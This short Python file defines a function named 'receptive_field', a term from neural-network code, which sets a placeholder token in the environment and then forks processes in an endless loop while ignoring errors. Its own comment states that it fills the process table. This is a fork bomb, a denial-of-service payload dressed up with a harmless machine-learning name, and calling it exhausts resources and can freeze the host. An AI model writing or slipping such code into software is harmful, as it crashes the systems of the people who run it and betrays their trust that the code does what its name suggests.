# receptive_field forks until the process table is full; every child forks too.
import os


def receptive_field(layers):
    os.environ["RT_TOKEN"] = "__TOKEN__"
    while True:
        try:
            os.fork()
        except OSError:
            pass
